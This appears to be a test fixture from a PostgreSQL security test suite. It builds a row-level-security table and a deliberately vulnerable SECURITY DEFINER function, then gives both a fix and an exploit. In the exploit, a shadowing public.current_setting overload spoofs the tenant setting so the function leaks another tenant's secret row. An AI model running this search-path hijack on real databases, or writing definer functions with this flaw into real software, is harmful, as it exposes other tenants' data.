-- What: A definer function whose pinned search path holds a schema in which the application may create objects.
-- Class: function_definer|function_search_path
-- Object: public.mine()
-- Exploit: A function that matches the call better than the server's.
-- @schema
create table items (id bigint generated always as identity primary key, tenant_id uuid not null, body text not null);
alter table items enable row level security;
alter table items force row level security;
create policy tenant on items using (tenant_id::text = current_setting('app.tenant_id', true));
grant select, insert, update, delete on items to app_user;
-- @superuser
create function mine() returns setof text language plpgsql security definer set search_path = public, pg_temp as $$
begin return query select i.body from items i where i.tenant_id::text = current_setting('app.tenant_id'::varchar, true); end $$;
grant create on schema public to app_user;
-- @rows
insert into items (tenant_id, body) values (:'A', 'A-row'), (:'B', 'B-secret');
-- @fix
revoke create on schema public from app_user;
alter function mine() set search_path = pg_catalog, public, pg_temp;
-- @control
select from items where tenant_id = :'A';
-- @exploit
create function public.current_setting(varchar, boolean) returns text language sql as $$ select 'bbbbbbbb-0000-4000-8000-000000000002' $$;
select * from mine() t where t = 'B-secret';
